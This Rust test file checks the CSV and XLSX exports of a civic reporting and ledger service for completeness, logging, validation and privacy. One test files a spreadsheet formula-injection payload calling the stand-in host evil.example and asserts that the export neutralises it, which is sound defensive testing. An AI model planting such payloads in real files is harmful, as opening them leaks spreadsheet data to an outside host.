//! Tables that are taken out of the house: complete, harmless to spreadsheets, without who reported, and noted.

use crate::both_databases;
use crate::district::District;
use crate::reports::world::{NAME, PHONE, World, caller, upload};
use crate::support::{Actor, Answer, TestApp};
use chrono::TimeDelta;
use golden_beans::domain::role::Role;
use golden_beans::domain::tier::Tier;
use golden_beans::service::exports::{ExportFormat, ExportKind, Wanted};
use golden_beans::service::reports::ListFilter;
use serde_json::json;
use std::io::{Cursor, Read};
use std::time::{Duration, Instant};

/// The lines of a CSV answer, as cells.
fn cells(answer: &Answer) -> Vec<Vec<String>> {
    assert_eq!(answer.status, 200, "{}", answer.text());
    let text =
        std::str::from_utf8(&answer.body).unwrap().strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The parts of a workbook.
fn parts(answer: &Answer) -> Vec<(String, String)> {
    assert_eq!(answer.status, 200, "{}", answer.text());
    let mut archive = zip::ZipArchive::new(Cursor::new(&answer.body)).expect("a workbook");
    (0..archive.len())
        .map(|index| {
            let mut file = archive.by_index(index).unwrap();
            let mut text = String::new();
            file.read_to_string(&mut text).unwrap();
            (file.name().unwrap().into_owned(), text)
        })
        .collect()
}

async fn file(world: &World, description: &str) -> String {
    let photo_id = upload(&world.resident).await;
    let mut report = World::report(&[photo_id]);
    report["description"] = json!(description);
    world.resident.post("/reports", &report).await.expect(201)["id"].as_str().unwrap().to_owned()
}

/// The newest export of the log, once it has ended: that is noted just after the last byte is sent.
async fn logged(admin: &Actor) -> serde_json::Value {
    let begun = Instant::now();
    loop {
        let newest = admin.get("/exports?limit=1").await.expect(200)["items"][0].clone();
        if newest["outcome"].is_string() {
            return newest;
        }
        assert!(begun.elapsed() < Duration::from_secs(20), "{newest}");
        tokio::task::yield_now().await;
    }
}

both_databases! {
    #[settings("[exports]\nchunk_rows = 2")]
    async fn reports_are_exported_whole_in_both_forms_and_noted(app: TestApp) {
        let world = World::new(app.clone()).await;
        for number in 0..5 {
            // What is filed at one instant has no order.
            app.clock.advance(TimeDelta::milliseconds(1));
            file(&world, &format!("问题{number}")).await;
        }
        let answer = world.dispatcher.get("/exports/reports?format=csv").await;
        assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
        assert_eq!(answer.header("content-disposition"), "attachment; filename=\"reports-2024-07-10.csv\"");
        let rows = cells(&answer);
        assert_eq!(rows[0][..3], ["案卷号", "大类", "类别"]);
        let told: Vec<&str> = rows[1..].iter().map(|row| row[7].as_str()).collect();
        assert_eq!(told, ["问题4", "问题3", "问题2", "问题1", "问题0"]);
        assert_eq!(rows[1][1..4], ["街面秩序、市容环境", "暴露垃圾", ""]);
        assert_eq!(rows[1][5..7], ["25.4953000", "103.7964000"]);
        assert_eq!((rows[1][8].as_str(), rows[1][12].as_str()), ("待受理", "2024-07-10 10:00:00"));
        let newest = logged(&world.admin).await;
        assert_eq!((&newest["what"], &newest["format"]), (&json!("reports"), &json!("csv")));
        assert_eq!((&newest["outcome"], &newest["rows"]), (&json!("complete"), &json!(5)));
        assert_eq!((&newest["user_id"], &newest["query"]), (&json!(world.dispatcher.id), &json!("format=csv")));
        assert_eq!(newest["user"], json!({ "role": "dispatcher", "name": "调度员甲" }));

        let answer = world.dispatcher.get("/exports/reports?format=xlsx&status=submitted&from=2024-07-10").await;
        let parts = parts(&answer);
        let sheet = &parts.iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").expect("a sheet").1;
        assert_eq!(sheet.matches("<row ").count(), 6);
        assert!(sheet.contains("<v>25.4953</v>"), "{sheet}");
        assert_eq!(logged(&world.admin).await["rows"], 5);
        assert!(cells(&world.dispatcher.get("/exports/reports?format=csv&to=2024-07-09").await).len() == 1);
    }

    async fn no_cell_is_a_formula_and_no_row_says_who_reported(app: TestApp) {
        let world = World::with_campaign(app.clone()).await;
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1)";
        file(&world, evil).await;
        file(&world, &format!("我是{NAME}，电话{PHONE}")).await;
        let id = file(&world, "+1").await;
        world.bring(&id, "accepted").await;
        world.dispatch(&id, "close", json!({ "tier": "major", "comment": "谢谢" })).await.expect(200);
        let csv = world.dispatcher.get("/exports/reports?format=csv").await;
        let rows = cells(&csv);
        for row in &rows {
            for cell in row {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            }
        }
        assert!(rows.iter().any(|row| row[7] == format!("'{evil}")));
        let xlsx = world.dispatcher.get("/exports/reports?format=xlsx").await;
        let parts = parts(&xlsx);
        assert!(parts.iter().all(|(_, text)| !text.contains("<f>")), "no formula");
        let ledger = app.staff(Role::Auditor).await.get("/exports/ledger?format=csv").await;
        let text = format!("{} {parts:?} {}", csv.text(), ledger.text());
        for secret in [NAME, PHONE, world.resident.id.as_str()] {
            assert!(!text.contains(secret), "{secret}");
        }
        assert!(text.contains("138****1234"), "what was written is shown as units see it");
    }

    #[settings("[exports]\nchunk_rows = 3")]
    async fn the_statement_of_the_ledger_is_complete_and_in_order(app: TestApp) {
        let (mut district, _) = District::with_season(app.clone()).await;
        for number in 0..4 {
            district.award(&format!("deed-{number}"), Tier::General).await;
        }
        let code = district.pay_code().await;
        district.redeem(&code, "7.50").await.expect(201);
        let settle = json!({ "beans": "7.50", "memo": "=转账" });
        let path = format!("/shops/{}/settlements", district.shop_id);
        let settled = district.finance.post(&path, &settle).await;
        let is_settled = settled.status == 201;
        let answer = district.auditor.get("/exports/ledger?format=csv").await;
        let rows = cells(&answer);
        let transactions = district.auditor.get("/ledger/transactions?limit=200").await.expect(200);
        let count = transactions["items"].as_array().unwrap().len();
        assert_eq!(rows.len() - 1, 2 * count, "every posting here has two entries");
        let seqs: Vec<i64> = rows[1..].iter().map(|row| row[0].parse().unwrap()).collect();
        assert!(seqs.is_sorted());
        let sum: i64 = rows[1..].iter().map(|row| row[7].replace('.', "").parse::<i64>().unwrap()).sum();
        assert_eq!(sum, 0, "everything that went out came in");
        if is_settled {
            let settlements = cells(&district.finance.get("/exports/settlements?format=csv").await);
            assert_eq!(settlements[1][2..], ["便民超市", "7.50", "0.00", "'=转账"]);
            assert_eq!(settlements.len(), 2);
        }
        // A day that is over has nothing of this one.
        district.at(app.now() + TimeDelta::days(1)).await;
        let later = cells(&district.auditor.get("/exports/ledger?format=csv&from=2024-07-11").await);
        assert_eq!(later.len(), 1);
        let of_the_day = cells(&district.auditor.get("/exports/ledger?format=csv&to=2024-07-10").await);
        assert_eq!(of_the_day.len(), rows.len());
    }

    async fn wrong_parameters_are_named_before_anything_is_sent(app: TestApp) {
        let dispatcher = app.staff(Role::Dispatcher).await;
        for (query, field) in [
            ("", "format"),
            ("format=pdf", "format"),
            ("format=csv&from=yesterday", "from"),
            ("format=csv&from=2024-07-10&to=2024-07-01", "to"),
            ("format=csv&bbox=1,2,3", "bbox"),
            ("format=csv&limit=5", "limit"),
        ] {
            let answer = dispatcher.get(&format!("/exports/reports?{query}")).await;
            let answer = answer.expect_problem(422, "validation_failed");
            assert_eq!(answer.json["errors"][0]["field"], field, "{}", answer.text());
        }
        let admin = app.admin().await;
        assert_eq!(admin.get("/exports").await.expect(200)["items"].as_array().unwrap().len(), 0);
    }

    #[settings("[exports]\nat_once = 1")]
    async fn one_export_too_many_is_told_to_come_back_and_places_are_given_back(app: TestApp) {
        let world = World::new(app.clone()).await;
        file(&world, "问题").await;
        let dispatcher = caller(&world.dispatcher.id, Role::Dispatcher);
        let wanted = Wanted {
            kind: ExportKind::Reports,
            format: ExportFormat::Csv,
            filter: ListFilter::default(),
            query: String::new(),
        };
        let under_way = app.app.open_export(&dispatcher, wanted).await.unwrap();
        let refused = world.dispatcher.get("/exports/reports?format=csv").await;
        assert_eq!(refused.expect_problem(503, "too_many_exports").header("retry-after"), "2");
        under_way.end(false).await;
        assert_eq!(logged(&world.admin).await["outcome"], "broken_off");
        assert_eq!(app.app.exports_under_way(), 0);
        assert_eq!(cells(&world.dispatcher.get("/exports/reports?format=csv").await).len(), 2);
    }
}
